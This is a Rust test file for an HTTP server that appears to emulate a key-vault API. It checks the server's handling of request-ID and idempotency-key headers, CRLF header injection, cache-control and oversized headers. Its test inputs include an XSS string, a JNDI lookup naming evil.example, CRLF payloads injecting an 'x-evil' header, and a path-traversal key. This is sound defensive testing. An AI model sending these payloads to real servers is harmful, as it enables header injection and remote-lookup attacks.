//! Headers that the server reads or gives back.

use hsm_wire::endpoints;

use super::world::{World, read_answer, request};
use tokio::io::AsyncWriteExt;

fn is_uuid(text: &str) -> bool {
    text.len() == 36
        && text.bytes().enumerate().all(|(at, byte)| match at {
            8 | 13 | 18 | 23 => byte == b'-',
            _ => byte.is_ascii_hexdigit(),
        })
}

#[tokio::test]
async fn request_ids_that_are_none() {
    let world = World::new().await;
    let long = "a".repeat(10_000);
    for id in [
        "",
        "garbage",
        "2f6e1a0c5b1f4b579a7e0c6d1d7f8a01",
        "2f6e1a0c-5b1f-4b57-9a7e-0c6d1d7f8a0",
        "2f6e1a0c-5b1f-4b57-9a7e-0c6d1d7f8a0g",
        "{2f6e1a0c-5b1f-4b57-9a7e-0c6d1d7f8a01}",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "\u{1b}[31mred",
        "caf\u{e9}",
        &long,
    ] {
        let header = format!("x-ms-client-request-id: {id}\r\n");
        let target = "/keys?api-version=7.6";
        let mut stream = world.connect().await;
        let text = request("GET", target, &world.admin, &header, "");
        stream.write_all(&text).await.unwrap();
        let answer = read_answer(&mut stream, false).await.unwrap();
        // A control character is no header's.
        if id.starts_with('\u{1b}') {
            assert_eq!(answer.status, 400);
            continue;
        }
        assert_eq!(answer.status, 200, "{id}: {answer:?}");
        let echoed = answer.header("x-ms-client-request-id").unwrap();
        assert!(is_uuid(echoed), "{echoed}");
        assert_ne!(echoed, id);
    }
    world.is_well_and_stops().await;
}

/// No byte of a request becomes the end of a header of the answer.
#[tokio::test]
async fn line_ends_in_what_is_given_back() {
    let world = World::new().await;
    let id = "2f6e1a0c-5b1f-4b57-9a7e-0c6d1d7f8a01";
    for (target, header) in [
        (
            "/keys?api-version=7.6",
            format!("x-ms-client-request-id: {id}\r\n x-evil: 1\r\n"),
        ),
        (
            "/keys?api-version=7.6",
            format!("x-ms-client-request-id: {id}\rx-evil: 1\r\n"),
        ),
        (
            "/keys?api-version=7.6",
            format!("x-ms-client-request-id: {id}%0d%0ax-evil: 1\r\n"),
        ),
        ("/keys/%0d%0ax-evil:%201?api-version=7.6", String::new()),
        ("/keys?api-version=7.6%0d%0ax-evil:%201", String::new()),
        (
            "/keys?$skiptoken=%0d%0ax-evil:%201&api-version=7.6",
            String::new(),
        ),
        (
            "/keys?api-version=7.6",
            "hsm-if-instance: a%0d%0ax-evil: 1\r\n".to_owned(),
        ),
    ] {
        let answer = world
            .send(request("GET", target, &world.admin, &header, ""))
            .await;
        assert_eq!(answer.header("x-evil"), None, "{answer:?}");
        assert!(answer.status < 500, "{answer:?}");
        let echoed = answer.header("x-ms-client-request-id").unwrap_or(id);
        assert!(is_uuid(echoed), "{echoed}");
    }
    world.is_well_and_stops().await;
}

#[tokio::test]
async fn idempotency_keys_that_are_none() {
    let world = World::new().await;
    let state = world.state().await;
    let long = "a".repeat(10_000);
    for key in [
        "",
        "1",
        "garbage",
        "../../x",
        &long,
        "2f6e1a0c-5b1f-4b57-9a7e-0c6d1d7f8a0g",
    ] {
        let header = format!("idempotency-key: {key}\r\n");
        let target = "/keys/target?api-version=7.6";
        let answer = world
            .send(request("DELETE", target, &world.admin, &header, ""))
            .await;
        assert!(answer.is_error(400), "{key}: {answer:?}");
    }
    assert_eq!(world.state().await, state);
    world.is_well_and_stops().await;
}

/// Which of two would count is for nobody to guess.
#[tokio::test]
async fn two_idempotency_keys() {
    let world = World::new().await;
    let state = world.state().await;
    let header = "idempotency-key: 00000000-0000-4000-8000-000000000001\r\n\
        idempotency-key: 00000000-0000-4000-8000-000000000002\r\n";
    let target = "/keys/target?api-version=7.6";
    let answer = world
        .send(request("DELETE", target, &world.admin, header, ""))
        .await;
    assert!(answer.is_error(400), "{answer:?}");
    assert_eq!(world.state().await, state);
    world.is_well_and_stops().await;
}

/// Somebody else's key gives nobody somebody else's answer: here a secret token.
#[tokio::test]
async fn an_idempotency_key_of_another_principal() {
    let world = World::new().await;
    let nobody = world.user("nobody", &[]).await;
    let header = "idempotency-key: 00000000-0000-4000-8000-000000000001\r\n";
    let expires = (super::issuer::now() + 3600) * 1000;
    let body = format!(r#"{{"principal":"build","expires":{expires}}}"#);
    let target = "/hsm/v1/tokens/nightly";
    let first = world
        .send(request("PUT", target, &world.admin, header, &body))
        .await;
    assert!(first.body.contains("hsm_t_"), "{first:?}");
    let other = world
        .send(request("PUT", target, &nobody, header, &body))
        .await;
    assert!(other.is_error(403), "{other:?}");
    world.is_well_and_stops().await;
}

#[tokio::test]
async fn every_answer_forbids_to_be_kept() {
    let world = World::new().await;
    for row in endpoints() {
        let path = row.path.replace('{', "").replace('}', "");
        let method = row.method.replace('*', "GET");
        for token in ["", &*world.admin] {
            // Not with the one that would end the session.
            if row.operation == "logout" && !token.is_empty() {
                continue;
            }
            let answer = world.ask_as(token, &method, &path, "").await;
            assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
            assert!(is_uuid(answer.header("x-ms-request-id").unwrap()));
            assert!(
                answer.status < 500 || answer.status == 501,
                "{path}: {answer:?}"
            );
        }
    }
    world.is_well_and_stops().await;
}

#[tokio::test]
async fn very_many_and_very_long_headers() {
    let world = World::new().await;
    let target = "/keys?api-version=7.6";
    for (headers, status) in [
        ("x: y\r\n".repeat(90), 200),
        ("x: y\r\n".repeat(200), 431),
        (format!("x: {}\r\n", "y".repeat(20_000)), 200),
        (format!("x: {}\r\n", "y".repeat(100_000)), 431),
        (format!("{}: y\r\n", "x".repeat(100_000)), 431),
    ] {
        let answer = world
            .send(request("GET", target, &world.admin, &headers, ""))
            .await;
        assert_eq!(answer.status, status, "{}", headers.len());
    }
    world.is_well_and_stops().await;
}
